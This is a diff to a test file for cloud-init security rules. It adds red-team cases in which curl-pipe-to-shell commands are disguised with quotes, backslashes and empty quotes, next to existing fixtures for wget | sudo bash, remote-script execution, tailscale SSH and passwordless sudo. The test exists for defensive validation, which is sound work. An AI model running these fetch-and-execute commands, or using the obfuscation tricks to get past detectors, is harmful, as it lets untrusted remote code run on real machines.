@@ -49,6 +49,10 @@ describe("cloud-init rules", () => {
         ["tailscale up --ssh as argv", edited((d) => d.runcmd.push(["tailscale", "up", "--ssh"])), "cloud-init-no-tailscale-ssh"],
         ["tailscale up with --ssh on a continued line", edited((d) => d.write_files.push({ path: "/usr/local/sbin/y", content: "#!/bin/sh\ntailscale up \\\n  --hostname=x \\\n  --ssh \\\n  --auth-key=file:/k\n" })), "cloud-init-no-tailscale-ssh"],
         ["curl | sh", edited((d) => d.runcmd.push("curl -fsSL https://get.example.com | sh")), "cloud-init-no-pipe-to-shell"],
+        // Red team 23: the shell removes quotes and backslashes before it finds the program.
+        ["quoted curl | quoted sh", edited((d) => d.runcmd.push('c"ur"l -fsSL get.example.com/i | s"h"')), "cloud-init-no-pipe-to-shell"],
+        ["backslashed, as an argv list", edited((d) => d.runcmd.push(["sh", "-c", "cu\\rl -fsSL get.example.com/i | b\\ash"])), "cloud-init-no-pipe-to-shell"],
+        ["empty quotes inside the word", edited((d) => d.runcmd.push("cu''rl -fsSL get.example.com/i | sh")), "cloud-init-no-pipe-to-shell"],
         ["wget | sudo bash", edited((d) => d.runcmd.push("wget -qO- https://x.example/i.sh | sudo -E bash")), "cloud-init-no-pipe-to-shell"],
         ['sh -c "$(curl ...)"', edited((d) => d.runcmd.push('sh -c "$(curl -fsSL https://x.example/i.sh)"')), "cloud-init-no-pipe-to-shell"],
         ["agent with NOPASSWD sudo", edited((d) => (d.users[0].sudo = "ALL=(ALL) NOPASSWD:ALL")), "cloud-init-no-passwordless-sudo-for-agent"],
